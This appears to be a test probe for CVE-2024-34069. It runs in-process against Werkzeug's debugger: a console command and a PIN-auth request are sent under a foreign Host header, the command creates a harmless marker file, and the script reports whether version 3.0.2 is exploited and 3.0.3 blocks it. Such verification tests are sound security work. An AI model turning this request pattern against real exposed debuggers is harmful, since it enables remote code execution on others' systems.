# /// vertice-probe
# id = "GHSA-2g68-c3qc-8985"
# aliases = ["CVE-2024-34069"]
# package = "werkzeug"
# summary = "The debugger answers under any host name, so a foreign page can drive it and run code."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:H/I:H/A:H" }]
# cwe = ["CWE-352"]
# kind = "rce"
# symbols = [
#   "werkzeug.debug.DebuggedApplication",
#   "werkzeug.run_simple",
#   "werkzeug.serving.run_simple",
#   "flask.Flask.run",
# ]
#
# [[affected]]
# package = "werkzeug"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "3.0.3" }] }]
#
# [cases]
# attack = "a console command sent under a foreign host name writes a marker"
# [cases.variants]
# pin = "the PIN is checked, and trust given, under a foreign host name"
# [cases.controls]
# local = "the console opens and runs a command under 127.0.0.1, the application answers under any name"
#
# [test]
# vulnerable = "3.0.2"
# fixed = "3.0.3"
# ///
"""CVE-2024-34069: the debugger under foreign host names."""

import json
import os
import sys
import tempfile
import warnings
from urllib.parse import urlencode

warnings.simplefilter("ignore")
MARKER = os.path.join(tempfile.mkdtemp(), "marker")
FOREIGN, LOCAL = "rebound.example", "127.0.0.1:5000"


def debugged(pin):
    from werkzeug.debug import DebuggedApplication

    def application(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/plain")])
        return [b"application"]

    os.environ["WERKZEUG_DEBUG_PIN"] = pin
    return DebuggedApplication(application, evalex=True, pin_logging=False)


def get(application, host, path="/", **query):
    """(status, headers, body)"""
    import werkzeug.test

    environ = werkzeug.test.create_environ(path, query_string=urlencode(query))
    environ["HTTP_HOST"] = host
    body, status, headers = werkzeug.test.run_wsgi_app(application, environ)
    return status, headers, b"".join(body)


def run(application, host, code):
    return get(application, host, __debugger__="yes", cmd=code, frm="0", s=application.secret)


def attack():
    application = debugged("off")
    if get(application, LOCAL, "/console")[0] != "200 OK":
        return "error", "the console did not open under 127.0.0.1"
    status = run(application, FOREIGN, "open(%r, 'w').close()" % MARKER)[0]
    if os.path.exists(MARKER):
        return "exploited", "a command sent under the host name %s created the marker file" % FOREIGN
    if not status.startswith("400"):
        return "error", "no effect, answered %s" % status
    local = run(application, LOCAL, "40 + 2")[2]
    return (
        ("blocked", "refused with %s; the console still works locally" % status)
        if b"42" in local
        else ("error", repr(local))
    )


def pin():
    application = debugged("123-456-789")
    question = {"__debugger__": "yes", "cmd": "pinauth", "pin": "123-456-789", "s": application.secret}
    status, headers, body = get(application, FOREIGN, **question)
    if status == "200 OK" and json.loads(body.decode())["auth"] and "Set-Cookie" in headers:
        return "exploited", "the PIN was taken and a trust cookie set under the host name %s" % FOREIGN
    if not status.startswith("400"):
        return "error", "answered %s %r" % (status, body[:80])
    local = get(application, LOCAL, **question)
    trusted = local[0] == "200 OK" and json.loads(local[2].decode())["auth"]
    return ("blocked", "refused with %s; the PIN still works locally" % status) if trusted else ("error", repr(local))


def local():
    application = debugged("off")
    console, answer = get(application, LOCAL, "/console"), run(application, LOCAL, "40 + 2")
    page = get(application, FOREIGN, "/shop")
    good = console[0] == "200 OK" and b"42" in answer[2] and page[2] == b"application"
    return ("works", "console and application answered") if good else ("broken", "%r %r" % (console[0], answer))


CASES = {"attack": attack, "pin": pin, "local": local}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
